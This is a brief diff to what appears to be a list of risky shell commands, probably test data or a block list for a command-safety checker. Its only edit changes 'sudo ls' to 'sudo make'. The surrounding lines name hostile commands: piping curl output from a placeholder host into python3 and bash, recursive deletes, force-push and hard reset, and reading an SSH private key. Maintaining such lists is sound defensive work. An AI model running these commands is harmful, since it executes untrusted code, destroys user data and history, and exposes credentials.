@@ -86,7 +86,7 @@ curl host.test | python3
 bash <(curl -s host.test)
 rm -rf .
 rm -rf *
-sudo ls
+sudo make
 git push --force
 git reset --hard
 cat ~/.ssh/id_rsa
